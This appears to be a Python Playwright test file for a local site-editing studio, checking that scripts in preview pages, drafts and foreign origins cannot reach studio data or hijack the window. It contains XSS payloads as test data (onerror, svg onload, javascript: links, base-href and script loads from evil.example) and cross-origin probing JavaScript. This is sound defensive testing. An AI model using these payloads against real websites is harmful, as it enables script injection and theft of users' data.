"""A hostile pull request, shown by `loosen serve`: a script in its pages, by any hole, can do nothing.

Each script here runs as if the escaping and the policy had failed: the browser runs it in the page itself.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Frame, Page, Route, expect

from tests.soon import soon

from .asking import studio_of, token_of
from .conftest import Serving

pytestmark = pytest.mark.browser
PAGE = "/stretches/figure-four-stretch/"
FILE = "exercises/wall-calf-stretch.yml"
HARMLESS = ("refused", "", "undefined")
REACH = """
async ([studio, paths]) => {
  const found = {};
  const seen = async (name, make) => {
    try { found[name] = String(await make()); } catch (error) { found[name] = "refused"; }
  };
  const framed = (address) => new Promise((done, no) => {
    const frame = document.createElement("iframe");
    frame.addEventListener("load", () => setTimeout(() => {
      try { done(frame.contentDocument.documentElement.innerHTML); } catch (error) { no(error); }
    }, 300));
    frame.src = address;
    document.body.append(frame);
    setTimeout(no, 3000);
  });
  const opened = (address) => new Promise((done, no) => {
    const window_ = window.open(address);
    if (!window_) return no();
    setTimeout(() => {
      try { done(window_.document.documentElement.innerHTML); } catch (error) { no(error); }
    }, 1500);
  });
  const script = (address) => new Promise((done, no) => {
    const made = document.createElement("script");
    made.addEventListener("load", () => done("loaded"));
    made.addEventListener("error", no);
    made.src = address;
    document.head.append(made);
  });
  for (const path of paths) {
    await seen(`fetch ${path}`, async () => (await fetch(studio + path)).text());
    await seen(`no-cors ${path}`, async () => (await fetch(studio + path, { mode: "no-cors" })).text());
    await seen(`frame ${path}`, () => framed(studio + path));
    await seen(`script ${path}`, () => script(studio + path));
  }
  await seen("window", () => opened(studio));
  const text = (it) => it && it !== window ? it.document.documentElement.innerHTML : "";
  await seen("parent", () => text(window.parent));
  await seen("opener", () => text(window.opener));
  for (const type of ["application/json", "text/plain"]) {
    for (const mode of ["cors", "no-cors", "same-origin"]) {
      await seen(`save ${type} ${mode}`, async () => (await fetch(`${studio}save`, {
        method: "POST", mode, headers: { "Content-Type": type }, body: "{}" })).text());
    }
  }
  await seen("beacon", () => navigator.sendBeacon(`${studio}save`, "{}") && "");
  await seen("form", () => {
    const form = document.createElement("form");
    [form.method, form.action] = ["post", `${studio}save`];
    document.body.append(form);
    form.submit();
    return "";
  });
  return found;
}
"""


def everything(folder: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@pytest.fixture
def browser(chromium: Browser) -> Iterator[BrowserContext]:
    context = chromium.new_context()
    yield context
    context.close()


def assert_nothing_reached(serving: Serving, place: Page | Frame) -> None:
    studio, before = studio_of(serving), everything(serving.content.parent)
    paths = ["", "entities", f"entity?file={FILE}", "studio.js", "words.js"]
    found = place.evaluate(REACH, [studio, paths])
    told = json.dumps(list(found.values()))
    assert token_of(studio) not in told
    assert "wall-calf-stretch" not in told
    assert {name: text for name, text in found.items() if text not in HARMLESS} == {}
    assert everything(serving.content.parent) == before


def test_a_script_in_a_page_of_the_preview_reaches_nothing(serving: Serving, browser: BrowserContext) -> None:
    page = browser.new_page()
    page.goto(serving.url(PAGE))
    assert_nothing_reached(serving, page)


def test_a_script_in_a_page_that_an_author_opened_from_the_studio_reaches_nothing(
    serving: Serving, browser: BrowserContext
) -> None:
    studio = browser.new_page()
    studio.goto(studio_of(serving))
    with browser.expect_page() as opened:
        studio.evaluate("(address) => { window.open(address); }", serving.url(PAGE))
    opened.value.wait_for_load_state()
    assert_nothing_reached(serving, opened.value)


def drafted(serving: Serving, browser: BrowserContext) -> tuple[Page, Frame]:
    """The studio, and the draft that it shows."""
    page = browser.new_page()
    page.goto(studio_of(serving))
    page.get_by_label("Edit").select_option(f"{FILE}#")
    expect(page.frame_locator("#page").get_by_role("heading", level=1)).to_be_visible()
    return page, next(frame for frame in page.frames if "/-/draft/" in frame.url)


def test_a_script_in_a_draft_reaches_nothing(serving: Serving, browser: BrowserContext) -> None:
    _, draft = drafted(serving, browser)
    assert_nothing_reached(serving, draft)


def test_a_script_in_a_draft_cannot_lead_the_studio_away(serving: Serving, browser: BrowserContext) -> None:
    page, draft = drafted(serving, browser)
    address = page.url
    for attempt in (
        "() => { top.location = 'https://evil.example/'; }",
        "() => { parent.location.replace('https://evil.example/'); }",
        "() => { const a = document.createElement('a'); a.href = 'https://evil.example/'; a.target = '_top';"
        " document.body.append(a); a.click(); }",
        "() => window.open('https://evil.example/', '_top')",
        "() => window.open('https://evil.example/')",
        "() => { alert('Type your password'); }",
        "() => { parent.postMessage({ version: 'x', text: 'y' }, '*'); }",
        "() => { document.querySelector('h1').textContent = 'reached'; }",
    ):
        draft.evaluate(f"() => {{ try {{ ({attempt})() }} catch {{}} }}")
    expect(page.frame_locator("#page").get_by_role("heading", level=1)).to_have_text("reached")
    assert page.url == address
    assert len(browser.pages) == 1


MARKUP = (
    "<script>window.ran = 'inline'</script>",
    "<img src=x onerror=\"window.ran = 'handler'\">",
    "<svg onload=\"window.ran = 'svg'\"></svg>",
    "<iframe srcdoc=\"<script>parent.ran = 'srcdoc'</script>\"></iframe>",
    "<script src=\"data:text/javascript,window.ran='data'\"></script>",
    '<script src="https://evil.example/x.js"></script>',
    "<a id=hostile href=\"javascript:window.ran='link'\">x</a>",
    '<base href="https://evil.example/"><script src="x.js"></script>',
    "<style>@import 'https://evil.example/x.css'; h1 { background: url(https://evil.example/x) }</style>",
)


@pytest.mark.parametrize("markup", MARKUP)
@pytest.mark.parametrize("at", ["<head>", "<article"])
def test_markup_that_got_into_a_page_runs_nothing_and_asks_nobody(
    serving: Serving, browser: BrowserContext, markup: str, at: str
) -> None:
    page = browser.new_page()
    foreign: list[str] = []

    def hostile(route: Route) -> None:
        if route.request.method == "HEAD":
            route.continue_()
            return
        answer = route.fetch()
        text = answer.text()
        assert at in text
        body = text.replace(at, f"{at}{markup}" if at.endswith(">") else f"{markup}{at}", 1)
        route.fulfill(response=answer, body=body)

    def noted(route: Route) -> None:
        foreign.append(route.request.url)
        route.abort()

    page.route("https://evil.example/**", noted)
    page.route(serving.url(PAGE), hostile)
    page.goto(serving.url(PAGE))
    page.evaluate("() => document.querySelector('#hostile')?.click()")
    expect(page.get_by_role("button", name="Start").first).to_be_visible()
    assert page.evaluate("() => window.ran") is None
    assert foreign == []


@pytest.fixture
def foreign() -> Iterator[str]:
    """Another program's web server on this machine: the same site, another origin."""

    class Empty(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><html><head></head><body></body></html>")

        def log_message(self, format: str, *args: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Empty) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


def test_a_foreign_page_reaches_nothing(serving: Serving, browser: BrowserContext, foreign: str) -> None:
    for origin in (foreign, foreign.replace("127.0.0.1", "localhost")):
        page = browser.new_page()
        page.goto(origin)
        assert_nothing_reached(serving, page)
        page = browser.new_page()
        page.goto(origin)
        paths = [PAGE.removeprefix("/"), f"-/draft{PAGE}", "-/preview/events", "assets/site.css"]
        found = page.evaluate(REACH, [serving.origin, paths])
        assert {name: text for name, text in found.items() if text not in HARMLESS} == {}


def test_hostile_names_in_the_content_run_nothing_in_the_form(
    serving: Serving, browser: BrowserContext
) -> None:
    path = serving.content / "muscles" / "hostile.yml"
    name = "<img src=x onerror=window.ran=1>"
    path.write_text(f'name: "{name}"\nsummary: "{name}"\nplain: "{name}"\n', "utf-8")
    page = browser.new_page()
    try:
        page.goto(studio_of(serving))
        choice = page.get_by_label("Edit").first
        assert soon(lambda: name in choice.inner_text(), right=True)
        for file in (FILE, "muscles/hostile.yml"):
            choice.select_option(f"{file}#")
            expect(page.get_by_text("attention").first).to_be_visible()
            expect(page.locator("#form [data-schemapath='root.name'] input")).to_be_visible()
            assert page.locator("#form img, #problems img").count() == 0
            assert page.evaluate("() => window.ran") is None
    finally:
        path.unlink()
